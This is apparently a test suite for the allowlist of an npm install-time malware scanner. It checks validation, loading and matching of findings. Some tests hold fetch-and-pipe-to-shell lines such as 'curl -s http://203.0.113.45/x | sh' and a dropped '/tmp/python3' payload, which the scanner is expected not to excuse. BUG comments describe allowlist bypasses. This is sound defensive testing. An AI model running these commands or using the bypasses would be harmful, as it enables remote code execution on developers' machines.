// Allowlist files: validation errors that name file, field and expectation;
// matching of entries against findings (egress, paths, commands, versions,
// rule/signal restrictions, lowered points); the shipped allowlist.json.
import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Allowlist, AllowlistError, DEFAULT_ALLOWLIST_PATH, loadAllowlist, PROJECT_ALLOWLIST_NAME, readAllowlistFile, validateAllowlist } from '../../src/allowlist/allowlist.js';
import type { AllowlistEntry } from '../../src/allowlist/schema.js';
import { UsageError } from '../../src/errors.js';
import { RuleContext } from '../../src/rules/context.js';
import type { Evidence, Finding, Signal } from '../../src/rules/types.js';
import { finding, HOST } from '../rules/helpers.js';

const FIXTURES = fileURLToPath(new URL('../fixtures/allowlists/', import.meta.url));
const fixture = (name: string): string => join(FIXTURES, name);
const REPO = fileURLToPath(new URL('../../', import.meta.url));
const ctx = new RuleContext(HOST);

function errorOf(fn: () => unknown): Error {
  try {
    fn();
  } catch (error) {
    return error as Error;
  }
  throw new Error('expected an error');
}

describe('validateAllowlist: errors name the file, the field path and what was expected', () => {
  it.each([
    ['wrong-type.json', 'entries[1].package', /expected string, received number/],
    ['egress-not-a-list.json', 'entries[0].egress', /expected array, received string/],
    ['points-not-integer.json', 'entries[0].points', /expected number, received string/],
    ['points-too-high.json', 'entries[0].points', /<=\s*100/],
    ['unknown-key.json', 'entries[0]', /Unrecognized key.*"hosts"/],
    ['unknown-top-level-key.json', '(top level)', /Unrecognized key.*"allow"/],
    ['missing-version.json', 'version', /expected 1/],
    ['wrong-version.json', 'version', /expected 1/],
    ['bad-semver.json', 'entries[0].versions', /expected a semver range, got "version one"/],
    ['bad-cidr.json', 'entries[0].egress', /expected a host, IP or CIDR, got "10\.0\.0\.0\/33"/],
    ['no-scope.json', 'entries[1]', /needs at least one of egress, paths, commands/],
    ['huge-string.json', 'entries[0].package', /512/],
    ['bad-rule-id.json', 'entries[0].rules[0]', /a rule id like GI-NET-001/],
    ['bad-signal.json', 'entries[0].signals[0]', /expected one of .*"egress"/],
    ['not-an-object.json', '(top level)', /expected object, received array/],
  ])('%s -> %s', (file, field, expectation) => {
    const path = fixture(file);
    const error = errorOf(() => readAllowlistFile(path));
    expect(error).toBeInstanceOf(AllowlistError);
    expect(error).toBeInstanceOf(UsageError);
    expect((error as UsageError).exitCode).toBe(2);
    expect(error.message.startsWith(`${path}: ${field}: `), error.message).toBe(true);
    expect(error.message).toMatch(expectation);
  });

  it('validateAllowlist names the source it is given', () => {
    const error = errorOf(() => validateAllowlist({ version: 1, entries: [{ package: 'a', paths: [7] }] }, 'my-source.json'));
    expect(error.message).toMatch(/^my-source\.json: entries\[0\]\.paths\[0\]: .*expected string/);
  });

  it('a huge reason is refused too (2000 chars)', () => {
    expect(() => validateAllowlist({ version: 1, entries: [{ package: 'a', paths: ['x'], reason: 'r'.repeat(2001) }] }, 's')).toThrow(/^s: entries\[0\]\.reason: /);
    expect(validateAllowlist({ version: 1, entries: [{ package: 'a', paths: ['x'], reason: 'r'.repeat(2000) }] }, 's')).toHaveLength(1);
  });

  it('empty strings and over-long lists are refused', () => {
    expect(() => validateAllowlist({ version: 1, entries: [{ package: '', paths: ['x'] }] }, 's')).toThrow(/^s: entries\[0\]\.package: /);
    expect(() => validateAllowlist({ version: 1, entries: [{ package: 'a', paths: Array.from({ length: 501 }, () => 'x') }] }, 's')).toThrow(/^s: entries\[0\]\.paths: /);
  });

  it('valid files: entries come back as written', () => {
    const entries = readAllowlistFile(fixture('project.json'));
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({ package: '@acme/*', versions: '>=2.0.0 <3.0.0' });
    expect(validateAllowlist({ version: 1, entries: [] }, 'x')).toEqual([]);
  });
});

describe('readAllowlistFile: unreadable files', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'gi-allowlist-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('a non-JSON file names the file and says "not valid JSON"', () => {
    const path = fixture('not-json.json');
    const error = errorOf(() => readAllowlistFile(path));
    expect(error).toBeInstanceOf(AllowlistError);
    expect(error.message).toMatch(new RegExp(`^${path.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: not valid JSON`));
  });

  it('a file over 4 MiB is refused before it is read', () => {
    const path = join(dir, 'big.json');
    writeFileSync(path, '');
    truncateSync(path, 4 * 1024 * 1024 + 1); // sparse: no disk used
    const error = errorOf(() => readAllowlistFile(path));
    expect(error).toBeInstanceOf(AllowlistError);
    expect(error.message).toBe(`${path}: larger than ${4 * 1024 * 1024} bytes`);
  });

  it('exactly 4 MiB is read (and then judged on its content)', () => {
    const path = join(dir, 'edge.json');
    const body = JSON.stringify({ version: 1, entries: [] });
    writeFileSync(path, body + ' '.repeat(4 * 1024 * 1024 - body.length));
    expect(readAllowlistFile(path)).toEqual([]);
  });

  it('a missing file and a directory are "cannot read allowlist"', () => {
    expect(() => readAllowlistFile(join(dir, 'nope.json'))).toThrow(/nope\.json: cannot read allowlist/);
    expect(() => readAllowlistFile(dir)).toThrow(/cannot read allowlist/);
  });
});

describe('loadAllowlist', () => {
  let dir: string;
  beforeAll(() => {
    dir = mkdtempSync(join(tmpdir(), 'gi-project-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  it('the shipped allowlist.json validates', () => {
    const entries = readAllowlistFile(fileURLToPath(DEFAULT_ALLOWLIST_PATH));
    expect(entries.length).toBeGreaterThan(0);
    const raw = JSON.parse(readFileSync(join(REPO, 'allowlist.json'), 'utf8')) as unknown;
    expect(validateAllowlist(raw, 'allowlist.json')).toEqual(entries);
  });

  it('the shipped allowlist never excuses a whole package (every entry is scoped)', () => {
    for (const e of readAllowlistFile(fileURLToPath(DEFAULT_ALLOWLIST_PATH))) expect(e.egress ?? e.paths ?? e.commands, e.package).toBeDefined();
  });

  it('defaults only, when the project has no allowlist file', () => {
    expect(loadAllowlist(dir).sources).toEqual(['allowlist.json (built-in)']);
  });

  it('the project file is added after the defaults', () => {
    const path = join(dir, PROJECT_ALLOWLIST_NAME);
    writeFileSync(path, readFileSync(fixture('project.json')));
    try {
      expect(loadAllowlist(dir).sources).toEqual(['allowlist.json (built-in)', path]);
    } finally {
      rmSync(path);
    }
  });

  it('an explicit file replaces the project file; a missing explicit file is an error', () => {
    expect(loadAllowlist(dir, fixture('project.json')).sources).toEqual(['allowlist.json (built-in)', fixture('project.json')]);
    expect(() => loadAllowlist(dir, join(dir, 'missing.json'))).toThrow(AllowlistError);
    expect(() => loadAllowlist(dir, fixture('bad-cidr.json'))).toThrow(/bad-cidr\.json: entries\[0\]\.egress/);
  });

  // BUG (src/allowlist/allowlist.ts loadAllowlist: readAllowlistFile(DEFAULT_ALLOWLIST_PATH.pathname)):
  // URL.pathname is percent-encoded, so when guarded-install is installed under
  // a path with a space or non-ASCII character (e.g. a macOS home
  // "/Users/Jane Doe/..." holding the npx cache) the built-in allowlist is
  // looked up at ".../Jane%20Doe/..." and every run fails with "cannot read
  // allowlist". Fix: fileURLToPath(DEFAULT_ALLOWLIST_PATH).
  it('works when installed under a path with a space', async () => {
    const root = mkdtempSync(join(tmpdir(), 'gi copy '));
    try {
      cpSync(join(REPO, 'src'), join(root, 'src'), { recursive: true });
      cpSync(join(REPO, 'allowlist.json'), join(root, 'allowlist.json'));
      symlinkSync(join(REPO, 'node_modules'), join(root, 'node_modules'));
      const copy = (await import(join(root, 'src/allowlist/allowlist.ts'))) as typeof import('../../src/allowlist/allowlist.js');
      expect(copy.loadAllowlist(dir).sources).toEqual(['allowlist.json (built-in)']);
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});

// ── matching ──────────────────────────────────────────────────────────────

function allow(...entries: Array<Partial<AllowlistEntry>>): Allowlist {
  const full = entries.map((e) => ({ package: 'pkg', ...e }));
  return new Allowlist([{ source: '/x/project.allowlist.json', entries: validateAllowlist({ version: 1, entries: full }, 'test') }]);
}

function f(signal: Signal, evidence: Evidence, rule = 'GI-TEST-001', pkg: { name?: string; version?: string } = {}): Finding {
  return finding({ signal, rule, evidence, package: { name: pkg.name ?? 'pkg', version: pkg.version ?? '1.0.0', path: `/proj/node_modules/${pkg.name ?? 'pkg'}` } });
}

const egress = (ip: string | undefined, port: number | undefined, domain?: string): Finding => f('egress', { ip, port, ...(domain ? { domain } : {}) }, 'GI-NET-001');
const excused = (a: Allowlist, finding: Finding): boolean => a.match(finding, ctx) !== undefined;

describe('Allowlist.match: egress', () => {
  it('by CIDR', () => {
    const a = allow({ egress: ['203.0.113.0/24'] });
    expect(excused(a, egress('203.0.113.45', 443))).toBe(true);
    expect(excused(a, egress('203.0.114.1', 443))).toBe(false);
    expect(excused(a, egress('::ffff:203.0.113.45', 443))).toBe(true); // IPv4-mapped
  });

  it('by IPv6 CIDR', () => {
    const a = allow({ egress: ['2001:db8::/32'] });
    expect(excused(a, egress('2001:db8::1', 443))).toBe(true);
    expect(excused(a, egress('2001:db9::1', 443))).toBe(false);
    expect(excused(a, egress('203.0.113.45', 443))).toBe(false);
  });

  it('by IP, with and without port', () => {
    expect(excused(allow({ egress: ['203.0.113.45'] }), egress('203.0.113.45', 9001))).toBe(true);
    expect(excused(allow({ egress: ['203.0.113.45'] }), egress('203.0.113.46', 9001))).toBe(false);
    expect(excused(allow({ egress: ['203.0.113.45:443'] }), egress('203.0.113.45', 443))).toBe(true);
    expect(excused(allow({ egress: ['203.0.113.45:443'] }), egress('203.0.113.45', 9001))).toBe(false);
    expect(excused(allow({ egress: ['2001:db8::1'] }), egress('2001:db8::1', 443))).toBe(true);
  });

  it('by host glob via evidence.domain', () => {
    const a = allow({ egress: ['*.github.com', 'registry.npmjs.org'] });
    expect(excused(a, egress('140.82.112.3', 443, 'api.github.com'))).toBe(true);
    expect(excused(a, egress('140.82.112.3', 443, 'API.GitHub.com'))).toBe(true);
    expect(excused(a, egress('104.16.0.1', 443, 'registry.npmjs.org'))).toBe(true);
    expect(excused(a, egress('140.82.112.3', 443, 'github.com'))).toBe(false); // *. needs a label
    expect(excused(a, egress('140.82.112.3', 443, 'github.com.evil.example'))).toBe(false);
    expect(excused(a, egress('140.82.112.3', 443))).toBe(false); // no domain known: a host never matches a bare IP
  });

  it('host with port', () => {
    const a = allow({ egress: ['registry.npmjs.org:443'] });
    expect(excused(a, egress('104.16.0.1', 443, 'registry.npmjs.org'))).toBe(true);
    expect(excused(a, egress('104.16.0.1', 80, 'registry.npmjs.org'))).toBe(false);
    expect(excused(a, egress('104.16.0.1', undefined, 'registry.npmjs.org'))).toBe(false);
  });

  it('an egress entry does not excuse other signals', () => {
    const a = allow({ egress: ['203.0.113.0/24'] });
    expect(excused(a, f('process', { ip: '203.0.113.45', executable: '/usr/bin/curl' }, 'GI-PROC-002'))).toBe(false);
  });

  // BUG (src/allowlist/allowlist.ts validateAllowlist, egress check
  // `item.includes('/') && !ipaddr.isValidCIDR(item)`): the schema documents
  // 'IPs/CIDRs ("10.0.0.0/8"), optional ":port"' and parseEgress handles
  // "10.0.0.0/8:5432", but validation runs isValidCIDR on the whole item,
  // port included, and refuses it. Fix: strip the ":port" before the check.
  it('a CIDR with a port is accepted (documented "optional :port")', () => {
    const entries = readAllowlistFile(fixture('cidr-with-port.json'));
    const a = new Allowlist([{ source: 'x', entries }]);
    expect(excused(a, egress('10.1.2.3', 5432))).toBe(true);
    expect(excused(a, egress('10.1.2.3', 5433))).toBe(false);
  });

  // BUG (src/allowlist/allowlist.ts parseEgress): "[2001:db8::1]:443" is
  // unbracketed for the port regex, but the later `item.includes('::')` resets
  // the target to the raw bracketed item, which then becomes a picomatch host
  // glob ("[...]" a character class) that never matches an IP. Fix: keep the
  // unbracketed address as target and take the port from the bracket form.
  it('a bracketed IPv6 address with a port matches that address and port', () => {
    expect(excused(allow({ egress: ['[2001:db8::1]:443'] }), egress('2001:db8::1', 443))).toBe(true);
  });
});

describe('Allowlist.match: paths', () => {
  const path = (signal: Signal, p: string): Finding => f(signal, { path: p }, 'GI-DROP-001');

  it('~ is HOME', () => {
    const a = allow({ paths: ['~/.cache/pkg/**'] });
    expect(excused(a, path('payload-drop', '/home/u/.cache/pkg/bin/x'))).toBe(true);
    expect(excused(a, path('payload-drop', '/root/.cache/pkg/bin/x'))).toBe(false);
  });

  it('$TMP is each temp dir', () => {
    const a = allow({ paths: ['$TMP/pkg-*/**'] });
    expect(excused(a, path('payload-drop', '/tmp/pkg-123/a.o'))).toBe(true);
    expect(excused(a, path('payload-drop', '/tmp/other/a.o'))).toBe(false);
    const two = new RuleContext({ ...HOST, tempDirs: ['/tmp', '/var/folders/xy/T'] });
    expect(a.match(path('payload-drop', '/var/folders/xy/T/pkg-1/a'), two)).toBeDefined();
  });

  it('$PROJECT is the project root', () => {
    const a = allow({ paths: ['$PROJECT/.git/hooks/**'] });
    expect(excused(a, path('persistence', '/proj/.git/hooks/pre-commit'))).toBe(true);
    expect(excused(a, path('persistence', '/elsewhere/.git/hooks/pre-commit'))).toBe(false);
  });

  it('dot files match globs (picomatch dot: true)', () => {
    expect(excused(allow({ paths: ['/tmp/**'] }), path('payload-drop', '/tmp/.update-service'))).toBe(true);
  });

  it('paths excuse churn, persistence, credential-read and cross-package writes, not egress or process', () => {
    const a = allow({ paths: ['/proj/node_modules/pkg/**', '/home/u/.npmrc'] });
    expect(excused(a, f('churn', { path: '/proj/node_modules/pkg/x.js' }, 'GI-CHURN-003'))).toBe(true);
    expect(excused(a, f('credential-read', { path: '/home/u/.npmrc' }, 'GI-CRED-001'))).toBe(true);
    expect(excused(a, f('cross-package-write', { path: '/proj/node_modules/pkg/x.js' }, 'GI-XPKG-001'))).toBe(true);
    expect(excused(a, f('process', { path: '/proj/node_modules/pkg/x.js', executable: '/proj/node_modules/pkg/x.js' }, 'GI-PROC-004'))).toBe(false);
    expect(excused(a, f('egress', { path: '/proj/node_modules/pkg/x.js', ip: '1.1.1.1', port: 443 }, 'GI-NET-001'))).toBe(false);
  });

  it('a finding without a path is not excused by paths', () => {
    expect(excused(allow({ paths: ['**'] }), f('persistence', {}, 'GI-PERSIST-001'))).toBe(false);
  });
});

describe('Allowlist.match: commands', () => {
  const proc = (executable: string, args: string[], rule = 'GI-PROC-001'): Finding => f('process', { executable, args, pid: 101 }, rule);

  it('by basename', () => {
    const a = allow({ commands: ['pkg-config'] });
    expect(excused(a, proc('/usr/bin/pkg-config', ['pkg-config', '--modversion', 'vips-cpp']))).toBe(true);
    expect(excused(a, proc('/usr/bin/pkg-config-wrapper', ['pkg-config-wrapper']))).toBe(false);
  });

  it('by full executable path', () => {
    const a = allow({ commands: ['/usr/bin/make'] });
    expect(excused(a, proc('/usr/bin/make', ['make']))).toBe(true);
    expect(excused(a, proc('/usr/local/bin/make', ['make']))).toBe(false);
  });

  it('by argv glob', () => {
    const a = allow({ commands: ['/bin/sh -c pkg-config*'] });
    expect(excused(a, proc('/bin/sh', ['/bin/sh', '-c', 'pkg-config --modversion vips-cpp']))).toBe(true);
    expect(excused(a, proc('/bin/sh', ['/bin/sh', '-c', 'curl http://x | sh']))).toBe(false);
    expect(excused(a, proc('/bin/sh', ['/bin/sh', '-c', 'echo pkg-config']))).toBe(false);
  });

  it('argv globs: * spans slashes (bash mode)', () => {
    const a = allow({ commands: ['node */bin/setup.js'] });
    expect(excused(a, proc('/usr/bin/node', ['node', '/proj/node_modules/pkg/bin/setup.js'], 'GI-LIVE-001'))).toBe(true);
  });

  it('commands excuse outlives-install findings too', () => {
    const a = allow({ commands: ['watchman'] });
    expect(excused(a, f('outlives-install', { executable: '/usr/local/bin/watchman', args: ['watchman'] }, 'GI-LIVE-001'))).toBe(true);
  });

  // BUG (src/allowlist/allowlist.ts scopeMatches 'commands': `cmd === basename(exe)`
  // + the shipped "*" node-gyp entry listing python, python3, make, cc, gcc, ...):
  // a command entry matches on the basename of any executable, so a second
  // stage that a script dropped and ran (GI-PROC-004/005, even its setsid,
  // GI-PROC-007) is excused for every package by naming it /tmp/python3 or
  // ~/.cache/x/make. Fix: match a bare command name only against
  // executables the run did not create / outside temp and hidden home dirs, or
  // restrict basename matching to GI-PROC-001/003; or limit the shipped entry
  // with "rules": ["GI-PROC-001", "GI-PROC-003"].
  it('the shipped allowlist does not excuse running a dropped payload named python3', () => {
    const { allowlist } = loadAllowlist(FIXTURES);
    for (const rule of ['GI-PROC-004', 'GI-PROC-005', 'GI-PROC-007']) {
      const payload = f('process', { pid: 101, ppid: 100, executable: '/tmp/python3', args: ['/tmp/python3'] }, rule, { name: 'evil' });
      expect(allowlist.match(payload, ctx), rule).toBeUndefined();
    }
  });
});

describe('the shipped allowlist', () => {
  const shipped = (): Allowlist => loadAllowlist(FIXTURES).allowlist;
  const python = (name: string): Finding => f('process', { pid: 101, ppid: 100, executable: '/usr/bin/python3', args: ['python3', 'gyp_main.py'] }, 'GI-PROC-003', { name });

  it('excuses a node-gyp build step (python3 under node) for an unscoped package', () => {
    expect(shipped().match(python('native-addon'), ctx)).toEqual({ entry: expect.stringMatching(/^allowlist\.json \(built-in\)#\d+ \*$/), points: 0 });
  });

  it('does not excuse curl for anyone', () => {
    expect(shipped().match(f('process', { executable: '/usr/bin/curl', args: ['curl', 'http://x'] }, 'GI-PROC-002', { name: 'sharp' }), ctx)).toBeUndefined();
  });

  it('sharp may probe pkg-config through a shell; the same shell running curl is not excused', () => {
    const sh = (cmd: string): Finding => f('process', { executable: '/bin/sh', args: ['/bin/sh', '-c', cmd] }, 'GI-PROC-001', { name: 'sharp', version: '0.33.5' });
    expect(shipped().match(sh('pkg-config --modversion vips-cpp'), ctx)).toBeDefined();
    expect(shipped().match(sh('curl -s http://203.0.113.45/x | sh'), ctx)).toBeUndefined();
  });

  it('husky may write the project\'s git hooks, not ~/.bashrc', () => {
    const w = (path: string, rule: string, signal: Signal): Finding => f(signal, { path }, rule, { name: 'husky', version: '9.1.7' });
    expect(shipped().match(w('/proj/.git/hooks/pre-commit', 'GI-PERSIST-002', 'persistence'), ctx)).toBeDefined();
    expect(shipped().match(w('/home/u/.bashrc', 'GI-PERSIST-001', 'persistence'), ctx)).toBeUndefined();
  });

  // BUG (src/allowlist/allowlist.ts Allowlist constructor: `name: picomatch(entry.package)`):
  // picomatch's "*" does not match "/", so the shipped entries for every
  // package ("package": "*": registry egress, ~/.npm, node-gyp builds) never
  // apply to scoped packages (@scope/name): a scoped native addon's python3,
  // make or cc steps are findings while the same unscoped package's are not.
  // Fix: treat "*" (and globs without "/") as matching scoped names too, e.g.
  // entry.package === '*' ? () => true : picomatch(entry.package), or write
  // "**" in allowlist.json.
  it('the shipped "*" entries apply to scoped packages too', () => {
    expect(shipped().match(python('@serialport/bindings-cpp'), ctx)).toBeDefined();
  });
});

describe('Allowlist.match: package, versions, rules, signals, points', () => {
  const drop = (name: string, version: string, rule = 'GI-DROP-001', signal: Signal = 'payload-drop'): Finding => f(signal, { path: '/tmp/x' }, rule, { name, version });

  it('package globs', () => {
    const a = allow({ package: '@swc/*', paths: ['/tmp/**'] });
    expect(excused(a, drop('@swc/core', '1.0.0'))).toBe(true);
    expect(excused(a, drop('@swcx/core', '1.0.0'))).toBe(false);
    expect(excused(a, drop('swc', '1.0.0'))).toBe(false);
  });

  it('version ranges', () => {
    const a = allow({ versions: '>=1.2.0 <2.0.0', paths: ['/tmp/**'] });
    expect(excused(a, drop('pkg', '1.2.0'))).toBe(true);
    expect(excused(a, drop('pkg', '1.9.9'))).toBe(true);
    expect(excused(a, drop('pkg', '2.0.0'))).toBe(false);
    expect(excused(a, drop('pkg', '1.1.9'))).toBe(false);
    expect(excused(a, drop('pkg', 'not-a-version'))).toBe(false);
  });

  it('version ranges include prereleases', () => {
    expect(excused(allow({ versions: '^1.0.0', paths: ['/tmp/**'] }), drop('pkg', '1.1.0-beta.1'))).toBe(true);
  });

  it('no versions means any version', () => {
    expect(excused(allow({ paths: ['/tmp/**'] }), drop('pkg', '0.0.1-rc.0'))).toBe(true);
  });

  it('rules restrict the entry to those rules', () => {
    const a = allow({ paths: ['/tmp/**'], rules: ['GI-DROP-001'] });
    expect(excused(a, drop('pkg', '1.0.0', 'GI-DROP-001'))).toBe(true);
    expect(excused(a, drop('pkg', '1.0.0', 'GI-CHURN-004', 'churn'))).toBe(false);
  });

  it('signals restrict the entry to those signals', () => {
    const a = allow({ paths: ['/tmp/**'], signals: ['payload-drop'] });
    expect(excused(a, drop('pkg', '1.0.0'))).toBe(true);
    expect(excused(a, drop('pkg', '1.0.0', 'GI-PERSIST-001', 'persistence'))).toBe(false);
  });

  it('points lowers instead of removing, and names the entry', () => {
    const a = allow({ paths: ['/tmp/**'], points: 5 });
    expect(a.match(drop('pkg', '1.0.0'), ctx)).toEqual({ entry: 'project.allowlist.json#0 pkg', points: 5 });
    expect(allow({ paths: ['/tmp/**'] }).match(drop('pkg', '1.0.0'), ctx)).toEqual({ entry: 'project.allowlist.json#0 pkg', points: 0 });
  });

  it('the first matching entry wins, across sources in order', () => {
    const a = new Allowlist([
      { source: '/a/first.json', entries: validateAllowlist({ version: 1, entries: [{ package: 'other', paths: ['/tmp/**'] }, { package: 'pkg', paths: ['/tmp/**'], points: 7 }] }, 'a') },
      { source: '/b/second.json', entries: validateAllowlist({ version: 1, entries: [{ package: '*', paths: ['/tmp/**'] }] }, 'b') },
    ]);
    expect(a.match(drop('pkg', '1.0.0'), ctx)).toEqual({ entry: 'first.json#1 pkg', points: 7 });
    expect(a.match(drop('third', '1.0.0'), ctx)).toEqual({ entry: 'second.json#0 *', points: 0 });
  });

  it('a visibility-signal finding is never excused, whatever the entry', () => {
    const a = allow({ package: '*', egress: ['0.0.0.0/0', '::/0', '*'], paths: ['**', '/**'], commands: ['*', '**'], signals: ['visibility'] });
    const v = f('visibility', { path: '/tmp/x', ip: '1.1.1.1', port: 443, domain: 'x', executable: '/bin/sh', args: ['/bin/sh'] }, 'GI-VIS-001');
    expect(a.match(v, ctx)).toBeUndefined();
  });

  it('hostnames(): the names worth resolving, without ports, IPs or globs', () => {
    const a = allow({ egress: ['registry.npmjs.org:443', 'Nodejs.org', '*.github.com', '10.0.0.0/8', '203.0.113.45', '2001:db8::1'] });
    expect(a.hostnames().sort()).toEqual(['nodejs.org', 'registry.npmjs.org']);
  });
});
